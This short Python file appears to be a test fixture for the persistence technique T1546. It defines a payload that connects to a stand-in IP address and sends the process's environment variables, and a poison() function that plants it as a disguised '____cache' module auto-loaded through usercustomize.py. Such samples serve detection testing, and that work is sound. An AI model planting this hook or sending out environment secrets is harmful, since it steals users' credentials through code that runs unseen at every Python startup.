# SPDX-License-Identifier: Apache-2.0
"""usercustomize loads a module whose name starts with a dot-like run of underscores."""

ATTACK = "T1546"
LANGUAGE = "python"
CODE = """\
import os
import socket


def warm():
    s = socket.create_connection(("192.0.2.44", 443), 1)
    s.sendall(repr(os.environ).encode())
"""


def poison(layer):
    layer.beside("usercustomize.py", "import ____cache\n____cache.warm()\n")
    layer.beside("____cache.py", CODE)
